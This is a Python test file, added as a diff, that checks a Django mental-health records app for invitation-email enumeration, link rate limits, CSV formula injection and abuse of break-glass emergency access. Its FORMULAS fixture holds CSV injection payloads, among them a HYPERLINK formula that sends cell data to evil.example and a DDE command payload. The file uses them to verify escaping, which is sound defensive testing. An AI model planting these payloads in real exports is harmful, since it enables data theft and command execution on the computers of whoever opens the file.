@@ -1,0 +1,299 @@
+"""Attacks on invitation links, CSV downloads and break-glass access (issue items 5, 8 and 9).
+
+Invitation links must not tell whether an email belongs to someone in Reconnect (under 42 CFR
+Part 2, being a patient is itself protected) and must stop after a few tries; no CSV the project
+writes may carry a cell a spreadsheet would run as a formula; break-glass is one grant at a time,
+a few a day, with a real reason, and the page names nobody until the clinician identifies them.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+import statistics
+import threading
+import time
+
+import pytest
+from django.core.management import call_command
+from django.db import connection
+from django.test import Client as HttpClient
+from django.urls import reverse
+from django.utils import timezone
+from freezegun import freeze_time
+
+from conftest import PASSWORD, _person, page_text, share
+from proof.scorecard import record_figure
+from reconnect.access import gate
+from reconnect.access.emergency import open_in_emergency
+from reconnect.access.models import EmergencyAccess
+from reconnect.core.input import InvalidInput
+from reconnect.people.models import User
+from reconnect.supporters import actions as supporters
+
+pytestmark = pytest.mark.django_db
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+REASON = "Client called the front desk in crisis and needs the safety plan now"
+
+
+def _attack(name: str, attempts: int, successes: int) -> None:
+    record_figure("8_attack_suite", cases=attempts, successes=successes, **{name: attempts})
+
+
+def _answer(response) -> tuple[int, str, list[str]]:  # noqa: ANN001
+    """What a person on the other end learns: status, body (per-request tokens removed), cookies."""
+    body = re.sub(r'(name="csrfmiddlewaretoken" value=)"[^"]*"', r"\1", page_text(response))
+    body = re.sub(r'nonce="[^"]*"', "", body)
+    return response.status_code, body, sorted(response.cookies)
+
+
+def _ask_to_join(http: HttpClient, raw: str, email: str):  # noqa: ANN202
+    return http.post(
+        reverse("supporters:invitation", args=[raw]),
+        {"display_name": "Alex Friend", "email": email, "password": PASSWORD},
+    )
+
+
+# --- Item 5: invitation links -------------------------------------------------------------------
+
+
+def test_joining_with_an_existing_or_a_new_email_answers_identically(
+    casey, everyone, mailoutbox, django_capture_on_commit_callbacks
+):
+    existing = [person.email for person in everyone.values()] + [casey.email.upper()]
+    pairs, same, times = 0, 0, {"existing": [], "new": []}
+    for number, known in enumerate(existing):
+        _, raw = supporters.invite(client=casey.client, name="Alex")
+        answers = {}
+        order = [("existing", known), ("new", f"new.person{number}@example.org")]
+        for kind, email in order if number % 2 else reversed(order):
+            started = time.perf_counter()
+            with django_capture_on_commit_callbacks(execute=True):  # the email is sent, too
+                response = _ask_to_join(HttpClient(), raw, email)
+            times[kind].append(time.perf_counter() - started)
+            answers[kind] = _answer(response)
+        pairs += 1
+        same += answers["existing"] == answers["new"]
+    existing_ms = statistics.median(times["existing"]) * 1000
+    new_ms = statistics.median(times["new"]) * 1000
+    record_figure(
+        "23_invite_enumeration",
+        pairs_compared=pairs,
+        identical=same,
+        median_existing_ms=round(existing_ms, 1),
+        median_new_ms=round(new_ms, 1),
+    )
+    _attack("invite_email_enumeration", pairs, pairs - same)
+    assert same == pairs
+    assert not User.objects.filter(email__startswith="new.person").exists()
+    assert len(mailoutbox) == 2 * pairs
+    assert len({m.subject for m in mailoutbox}) == 1
+    assert abs(existing_ms - new_ms) <= 0.5 * max(existing_ms, new_ms) + 5
+
+
+def test_an_invitation_link_stops_after_five_tries(
+    casey, mailoutbox, django_capture_on_commit_callbacks
+):
+    _, raw = supporters.invite(client=casey.client, name="Alex")
+    http = HttpClient()
+    for _ in range(5):
+        assert _ask_to_join(http, raw, "not-an-email").status_code == 400
+    sixth = _ask_to_join(http, raw, "alex.friend@example.org")
+    _, probe = supporters.invite(client=casey.client, name="Alex")
+    with django_capture_on_commit_callbacks(execute=True):
+        answers = [_ask_to_join(HttpClient(), probe, f"probe{n}@example.org") for n in range(8)]
+    accepted = sum(a.status_code == 200 for a in answers)
+    _attack("invitation_probing", 1 + len(answers), int(sixth.status_code != 410) + accepted - 5)
+    assert sixth.status_code == 410
+    assert "ask the person who invited you for a new link" in page_text(sixth)
+    assert not User.objects.filter(email="alex.friend@example.org").exists()
+    assert accepted == 5 and {a.status_code for a in answers[5:]} == {410}
+    assert len(mailoutbox) == 5
+
+
+# --- Item 8: CSV formula injection --------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_formula_names_in_the_who_saw_my_record_csv_are_escaped(casey, program, signed_in):
+    for number, formula in enumerate(FORMULAS):
+        supporter = _person(program, f"Formula{number}", "supporter")
+        User.objects.filter(pk=supporter.pk).update(display_name=formula)
+        supporter.refresh_from_db()
+        _, raw = supporters.invite(client=casey.client, name="Friend")
+        supporters.accept(raw=raw, supporter=supporter)
+        share(casey, supporter, ["checkin_summary"], purpose=formula)
+        gate.shared_view(supporter, casey.client.pk)
+    response = signed_in(casey).get(reverse("access:my_record_access_download"))
+    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    unsafe = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    escaped = [
+        cell for cell in cells if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
+    ]
+    record_figure(
+        "23_csv_cells_escaped", cells=len(cells), escaped=len(escaped), unsafe=len(unsafe)
+    )
+    _attack("csv_formula_injection", len(FORMULAS), len(unsafe))
+    assert not unsafe
+    assert f"'{FORMULAS[0]}" in cells
+
+
+def test_the_empathy_command_escapes_formula_cells(tmp_path, capsys):
+    path = tmp_path / "pairs.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["seeker_post", "response_post"])
+        writer.writerows([[f, "That sounds hard. What happened?"] for f in FORMULAS])
+    call_command("empathy", str(path))
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    cells = [cell for row in rows for cell in row]
+    unsafe = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    record_figure("23_csv_cells_escaped", cells=len(cells), unsafe=len(unsafe))
+    _attack("csv_formula_injection", len(FORMULAS), len(unsafe))
+    assert not unsafe
+    assert [row[0] for row in rows[1:]] == [f"'{f}" for f in FORMULAS]
+
+
+# --- Item 9: break-glass ------------------------------------------------------------------------
+
+
+def _clients(program, count: int) -> list:  # noqa: ANN001
+    robin = _person(program, "Dana", "clinician")
+    return [_person(program, f"Client{n}", "client", clinician=robin).client for n in range(count)]
+
+
+def test_the_emergency_page_names_nobody_until_the_clinician_identifies_them(
+    casey, lee, sam, signed_in
+):
+    body = page_text(signed_in(sam).get(reverse("access:emergency_access")))
+    listed = [name for name in (casey.display_name, lee.display_name) if name in body]
+    _attack("emergency_page_lists_names", 1, int(bool(listed)))
+    assert not listed
+
+
+def test_asking_again_while_access_is_open_makes_no_second_grant(casey, sam):
+    first = open_in_emergency(clinician=sam, client=casey.client, reason=REASON)
+    again = open_in_emergency(clinician=sam, client=casey.client, reason=REASON)
+    grants = EmergencyAccess.objects.filter(clinician=sam, client=casey.client).count()
+    _attack("emergency_double_grant", 1, grants - 1)
+    assert again.pk == first.pk and grants == 1
+    with freeze_time(timezone.now() + dt.timedelta(minutes=61)):
+        renewed = open_in_emergency(clinician=sam, client=casey.client, reason=REASON)
+    assert renewed.pk != first.pk
+
+
+def test_a_fourth_emergency_in_a_day_is_refused(program, sam):
+    from reconnect.people.actions import assign_supervisor
+
+    assign_supervisor(supervisor=_person(program, "Quinn", "supervisor"), clinician=sam)
+    clients = _clients(program, 5)
+    refused = []
+    for client in clients:
+        try:
+            open_in_emergency(clinician=sam, client=client, reason=REASON)
+        except InvalidInput as error:
+            refused.append(error.message)
+    granted = EmergencyAccess.objects.filter(clinician=sam).count()
+    record_figure("6_break_glass_refusals", attempts=len(clients), refused_over_limit=len(refused))
+    _attack("emergency_over_daily_limit", len(clients), max(0, granted - 3))
+    assert granted == 3 and len(refused) == 2
+    assert "You have opened 3 records in an emergency today; ask your supervisor" in refused[0]
+    with freeze_time(timezone.now() + dt.timedelta(hours=24, minutes=1)):
+        open_in_emergency(clinician=sam, client=clients[3], reason=REASON)
+
+
+@pytest.mark.parametrize(
+    "reason",
+    [
+        "aaaaaaaaaaaaaaaaaaaa",
+        "x x x x x x x x x x x",
+        "help help help help help",
+        "....................",
+        "1234567890123456789",
+        "emergencyemergencyemergency",
+    ],
+)
+def test_a_reason_that_is_not_a_sentence_opens_nothing(casey, sam, reason):
+    with pytest.raises(InvalidInput) as refused:
+        open_in_emergency(clinician=sam, client=casey.client, reason=reason)
+    record_figure("6_break_glass_refusals", attempts=1, refused_reason=1)
+    assert "in a sentence" in refused.value.message
+    assert not EmergencyAccess.objects.exists()
+
+
+def race_for_grants(threads: int = 4) -> dict[str, object]:
+    """In a process of its own, on a real database: two clients, two requests each, at once."""
+    from reconnect.people.models import Program
+
+    program = Program.objects.create(name=f"Race {time.time_ns()}")
+    sam = _person(program, f"Sam{program.pk}", "clinician")
+    clients = _clients(program, 4)
+    open_in_emergency(clinician=sam, client=clients[0], reason=REASON)
+    open_in_emergency(clinician=sam, client=clients[1], reason=REASON)
+    start, outcomes = threading.Barrier(threads), []
+
+    def attempt(client) -> None:  # noqa: ANN001
+        clinician = User.objects.get(pk=sam.pk)
+        start.wait()
+        try:
+            open_in_emergency(clinician=clinician, client=client, reason=REASON)
+            outcomes.append("answered")
+        except InvalidInput:
+            outcomes.append("refused")
+        except Exception as error:  # noqa: BLE001 (reported to the test, which fails on it)
+            outcomes.append(type(error).__name__)
+        finally:
+            connection.close()
+
+    racers = [threading.Thread(target=attempt, args=(c,)) for c in clients[2:] * (threads // 2)]
+    for thread in racers:
+        thread.start()
+    for thread in racers:
+        thread.join(60)
+    grants = EmergencyAccess.objects.filter(clinician=sam)
+    return {
+        "grants": grants.count(),
+        "most_per_client": max(grants.filter(client=c).count() for c in clients[2:]),
+        "outcomes": sorted(outcomes),
+    }
+
+
+def test_two_simultaneous_requests_make_one_grant_and_keep_the_limit(tmp_path):
+    import json
+    import os
+
+    from conftest import run_reconnect
+
+    env = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
+    env.update(
+        RECONNECT_ENV="development",
+        RECONNECT_VAR_DIR=str(tmp_path),
+        EMAIL_BACKEND="django.core.mail.backends.locmem.EmailBackend",
+    )
+    if os.environ.get("DATABASE_URL"):
+        from proof.server import fresh_postgres
+
+        env["DATABASE_URL"] = fresh_postgres(os.environ["DATABASE_URL"], "breakglass_race")
+    assert run_reconnect("migrate", "--noinput", env=env, timeout=300).returncode == 0
+    script = (
+        "import json, django; django.setup(); "
+        "from tests.test_attacks_invites_csv_breakglass import race_for_grants; "
+        "print(json.dumps(race_for_grants()))"
+    )
+    result = run_reconnect("shell", "-c", script, env=env, timeout=300)
+    assert result.returncode == 0, result.stderr[-2000:]
+    race = json.loads(result.stdout.strip().splitlines()[-1])
+    record_figure("6_break_glass_refusals", attempts=4, concurrent_grants=race["grants"])
+    _attack("emergency_concurrent_grants", 4, max(0, race["grants"] - 3))
+    assert race["grants"] == 3 and race["most_per_client"] == 1, race
+    assert set(race["outcomes"]) <= {"answered", "refused"}, race
